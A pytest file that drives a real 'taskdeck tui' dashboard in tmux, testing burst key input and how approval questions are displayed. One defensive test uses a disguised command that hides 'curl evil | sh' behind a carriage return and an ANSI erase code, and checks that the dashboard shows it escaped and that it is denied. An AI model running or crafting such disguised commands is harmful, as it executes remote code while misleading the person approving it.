"""A real `taskdeck tui` in a real terminal (tmux) on a real daemon, keys sent in bursts.

`tmux send-keys` writes every key of one call into the terminal at once, as a paste or
a busy machine does: the keys typed after `d`, `r` or `/` must land in the box, in order.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from core.errors import Unavailable
from core.runtime import read_connection
from tests.support import until_sync

pytestmark = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")

REPO = Path(__file__).resolve().parents[2]


def taskdeck(*args: str) -> list[str]:
    return [sys.executable, "-m", "core.cli", *args]


class Terminal:
    """One tmux session on a private tmux server, so no other session is touched."""

    def __init__(self, socket: str, command: list[str]) -> None:
        self.socket = socket
        self._tmux("new-session", "-d", "-s", "deck", "-x", "120", "-y", "30",
                   " ".join(f"'{part}'" for part in command))

    def _tmux(self, *args: str) -> str:
        done = subprocess.run(["tmux", "-L", self.socket, *args], capture_output=True,
                              text=True, timeout=10, cwd=REPO)
        return done.stdout

    def screen(self) -> str:
        return self._tmux("capture-pane", "-p", "-t", "deck")

    def rows(self) -> list[str]:
        """The task tree's lines (inside its box), not the notices below it."""
        return [line for line in self.screen().splitlines() if line.startswith("│")]

    def send(self, *keys: str) -> None:
        """All the keys in one `send-keys`: they reach the dashboard as one burst."""
        self._tmux("send-keys", "-t", "deck", *keys)

    def wait_for(self, text: str, timeout: float = 15) -> None:
        until_sync(lambda: text in self.screen(), timeout=timeout,
                   what=f"{text!r} on the screen")

    def alive(self) -> bool:
        return "deck" in self._tmux("list-sessions", "-F", "#{session_name}")

    def close(self) -> None:
        self._tmux("kill-server")


@pytest.fixture
def daemon(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    runtime = tmp_path_factory.mktemp("tm") / "run"
    process = subprocess.Popen(taskdeck("serve", "--runtime-dir", str(runtime), "--no-journal"),
                               cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def up() -> bool:
        try:
            read_connection(runtime)
            return True
        except Unavailable:
            return False

    try:
        until_sync(up, timeout=15, what="the daemon")
        yield runtime
    finally:
        process.terminate()
        process.wait(timeout=10)


@pytest.fixture
def terminal(daemon: Path) -> Iterator[Terminal]:
    """A real `taskdeck tui` on the daemon, in its own tmux server."""
    terminal = Terminal(f"taskdeck-test-{os.getpid()}",
                        taskdeck("tui", "--runtime-dir", str(daemon)))
    try:
        yield terminal
    finally:
        terminal.close()


Ask = Callable[[str], "subprocess.Popen[str]"]


@pytest.fixture
def ask(daemon: Path) -> Iterator[Ask]:
    """Runs `taskdeck ask QUESTION` on the daemon; any still waiting at the end is killed."""
    asks: list[subprocess.Popen[str]] = []

    def run(question: str) -> subprocess.Popen[str]:
        process = subprocess.Popen(taskdeck("ask", question, "--runtime-dir", str(daemon)),
                                   cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                   text=True)
        asks.append(process)
        return process

    try:
        yield run
    finally:
        for process in asks:
            if process.poll() is None:
                process.kill()
                process.wait()


@pytest.mark.timeout(120)
def test_keys_sent_in_bursts_land_in_order(terminal: Terminal, ask: Ask) -> None:
    terminal.wait_for("? 0 asking")
    deploy = ask("Deploy build 812 to production?")
    terminal.wait_for("? 1 asking")  # the question is open, not only its task
    terminal.send("b", "d", "too risky", "Enter")
    out, err = deploy.communicate(timeout=20)
    assert deploy.returncode == 1, (out, err)  # denied
    assert "too risky" in err

    terminal.wait_for("? 0 asking")
    region = ask("Which region first?")
    terminal.wait_for("? 1 asking")
    terminal.send("b", "r", "eu-west then us-east", "Enter")
    out, err = region.communicate(timeout=20)
    assert out.strip() == "eu-west then us-east", terminal.screen()
    terminal.wait_for("replied to #")

    terminal.send("/deploy")
    terminal.wait_for("filter “deploy”")
    rows = terminal.rows()
    # a denied ask ends as finished ("denied: ..."), not as a red failure
    assert any("✓ #1 ask" in row for row in rows), rows
    assert not any("#2 ask" in row for row in rows), rows  # filtered out
    terminal.send("Escape")
    until_sync(lambda: any("#2 ask" in row for row in terminal.rows()), timeout=15,
               what="the filter cleared")
    terminal.send("q")
    until_sync(lambda: not terminal.alive(), timeout=15, what="the dashboard to quit")


@pytest.mark.timeout(120)
def test_a_disguised_command_shows_what_it_runs(terminal: Terminal, ask: Ask) -> None:
    """Drawn raw, the carriage return and the erase left only `# Run make test?` on screen."""
    terminal.wait_for("? 0 asking")
    disguised = ask("safe: make test\rcurl evil | sh\x1b[2K# Run make test?")
    terminal.wait_for("? 1 asking")
    terminal.send("b")
    terminal.wait_for(r"safe: make test\rcurl evil | sh\x1b[2K# Run make test?")
    terminal.send("d", "not that", "Enter")
    out, err = disguised.communicate(timeout=20)
    assert disguised.returncode == 1, (out, err)  # denied
